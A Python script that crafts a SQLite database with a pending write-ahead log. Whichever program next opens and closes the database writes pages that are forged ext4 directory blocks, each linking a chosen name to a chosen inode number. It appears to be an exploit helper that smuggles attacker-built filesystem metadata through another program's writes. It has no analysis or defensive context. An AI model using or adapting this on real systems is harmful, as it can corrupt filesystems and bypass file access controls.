#!/usr/bin/env python3
"""craft_hot_wal.py FILE NAME INODE ROWS

A database in FILE and its log in FILE-wal, hot: the first program that opens and closes it writes ROWS pages of 1024 bytes, each
of which is a block of an ext4 directory in which NAME is a directory, INODE. Prints the numbers of these pages, from 0."""
import os
import shutil
import sqlite3
import struct
import sys

PAGE = 1024


def directory(name, inode):
    """Nothing at first, for an overflow page begins with four bytes of zero; then the name, to the block's end."""
    unused = struct.pack("<IHBB", 0, 12, 0, 0).ljust(12, b"\0")
    return unused + struct.pack("<IHBB", inode, PAGE - 12, len(name), 2).ljust(8, b"\0") + name.ljust(PAGE - 20, b"\0")


def main():
    path, name, inode, rows = sys.argv[1], sys.argv[2].encode(), int(sys.argv[3]), int(sys.argv[4])
    block = directory(name, inode)
    assert len(block) == PAGE and block[:4] == bytes(4)
    # What stays in the cell of a payload that overflows by whole pages (the format's "M"); its header has four bytes.
    local = (PAGE - 12) * 32 // 255 - 23
    blob = b"x" * (local - 4) + block[4:]
    db = sqlite3.connect(path + ".made", isolation_level=None)
    for words in (f"pragma page_size={PAGE}", "pragma journal_mode=wal", "pragma wal_autocheckpoint=0",
                  "create table t (i integer primary key, b blob)", "begin"):
        db.execute(words)
    db.executemany("insert into t (b) values (?)", [(bytes(len(blob)),)] * rows)
    db.execute("commit")
    db.execute("pragma wal_checkpoint(truncate)")
    db.execute("update t set b = ?", (blob,))
    shutil.copyfile(path + ".made", path)
    shutil.copyfile(path + ".made-wal", path + "-wal")
    db.close()
    with open(path + ".made", "rb") as f:
        data = f.read()
    pages = [at // PAGE for at in range(0, len(data), PAGE) if data[at:at + PAGE] == block]
    os.unlink(path + ".made")
    assert len(pages) == rows, f"{len(pages)} pages"
    print(*pages)


main()
